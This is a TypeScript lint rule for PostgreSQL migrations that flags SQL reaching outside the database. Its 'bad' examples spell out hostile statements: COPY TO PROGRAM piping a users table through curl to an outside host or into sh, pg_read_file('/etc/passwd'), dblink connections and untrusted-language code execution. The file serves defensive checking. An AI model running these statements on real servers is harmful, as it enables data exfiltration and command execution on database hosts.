import type { Rule } from '../rule.ts';
import type { ServerAccess } from '../../postgres/server-access.ts';

const REACHES: Readonly<Record<ServerAccess['what'], string>> = {
  file: "reads or writes files of the database server's host",
  program: "runs a program on the database server's host",
  network: 'connects the database server to other machines',
  code: 'loads code into the database server that nothing confines',
  server: 'acts on the whole database server',
};

export const unsafeServerFunction: Rule = {
  name: 'unsafe-server-function',
  id: 'SEC-01',
  severity: 'error',
  reason: 'A migration that leaves its database can read, change or stop whatever the server can.',
  bad: [
    "COPY users TO PROGRAM 'curl -T - https://example.com';",
    "COPY users FROM '/etc/passwd';",
    "COPY (SELECT 1) TO '/tmp/x';",
    "SELECT lo_import('/etc/passwd');",
    "SELECT lo_export(1, '/tmp/x');",
    "SELECT pg_catalog.pg_read_file('/etc/passwd');",
    "SELECT * FROM pg_ls_dir('/'), pg_stat_file('/etc/passwd'), \"pg_read_binary_file\"('/x');",
    "CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'));",
    "ALTER TABLE t ALTER COLUMN a SET DEFAULT pg_read_file('/etc/passwd');",
    "CREATE VIEW v AS SELECT pg_read_file('/etc/passwd');",
    "INSERT INTO t VALUES (pg_read_file('/etc/passwd'));",
    "DO $$ BEGIN COPY users TO PROGRAM 'sh'; END $$;",
    "DO $$ BEGIN EXECUTE 'COPY users TO PROGRAM ''sh'''; END $$;",
    "DO $$ DECLARE t text := pg_read_file('/etc/passwd'); BEGIN NULL; END $$;",
    "CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN pg_read_file('/etc/passwd'); END $$;",
    "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$;",
    "CREATE FUNCTION f() RETURNS text LANGUAGE sql RETURN pg_read_file('/etc/passwd');",
    "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'libc', 'getpid';",
    "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1';",
    "DO LANGUAGE plperlu $$ system('x') $$;",
    'CREATE EXTENSION plpython3u;',
    'CREATE EXTENSION dblink;',
    "SELECT * FROM dblink('host=example.com', 'SELECT 1') AS t (a int);",
    "SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, true, '');",
    "ALTER SYSTEM SET archive_command = 'x';",
    'SELECT pg_reload_conf();',
    'SELECT pg_terminate_backend(pid) FROM pg_stat_activity;',
    "LOAD '/tmp/x.so';",
    "CREATE TABLESPACE fast LOCATION '/mnt/fast';",
    'GRANT pg_execute_server_program TO app;',
    "ALTER ROLE app SET session_preload_libraries = 'x';",
    'SELECT * FROM pg_hba_file_rules;',
  ],
  good: [
    'CREATE EXTENSION pgcrypto;',
    'COPY users FROM STDIN;',
    "INSERT INTO docs VALUES ('SELECT pg_read_file(''/etc/passwd'')');",
    'CREATE TABLE programs (program text, copy text, language text);',
    'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;',
    "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RAISE NOTICE 'from %', 'here'; RETURN 1; END $$;",
    'CREATE FUNCTION pg_read_file_name() RETURNS text LANGUAGE sql AS $$ SELECT 1::text $$;',
    'SELECT pg_read_file_name();',
    "SELECT lo_from_bytea(0, 'x');",
    "SET work_mem = '64MB';",
    'GRANT app TO admin;',
  ],
  *check({ statements }) {
    for (const statement of statements) {
      for (const { what, name } of statement.reaches) {
        yield { statement, message: `${name} ${REACHES[what]}.` };
      }
    }
  },
};
